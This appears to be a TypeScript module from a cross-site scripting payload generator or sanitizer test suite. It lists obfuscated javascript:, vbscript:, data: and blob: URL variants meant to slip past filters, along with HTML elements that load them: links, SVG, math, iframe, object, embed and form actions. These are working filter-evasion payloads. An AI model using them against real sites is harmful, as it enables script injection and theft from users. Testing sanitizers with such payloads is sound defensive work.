/** Addresses that run scripts, and the elements that follow or load them. */
import type { Make } from "./payload.ts";

/** Schemes that run scripts, as filters miss them. */
export const schemes: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A;avascript:${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `java&#13;script:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `&#32;&#14;javascript:${call}`,
  (call) => `javascript&#9;:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript://evil.example/%0A${call}//`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (call) => `data:text/html;base64,${Buffer.from(`<script>top.${call}</script>`).toString("base64")}`,
  (call) => `blob:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `&Tab;&Tab;JAVASCRIPT&colon;&Tab;${call}`,
];

/** Elements that follow an address, or load it. */
export const carriers: ((url: string) => string)[] = [
  (url) => `<a href="${url}">link</a>`,
  (url) => `<a href='${url}' target="_blank">link</a>`,
  (url) => `<svg width="20" height="20"><a href="${url}"><text y="10">link</text></a></svg>`,
  (url) => `<svg width="20" height="20"><a xlink:href="${url}"><text y="10">link</text></a></svg>`,
  (url) => `<math href="${url}"><mi>link</mi></math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<form action="${url}"><button>Go</button></form>`,
  (url) => `<button formaction="${url}">Go</button>`,
];
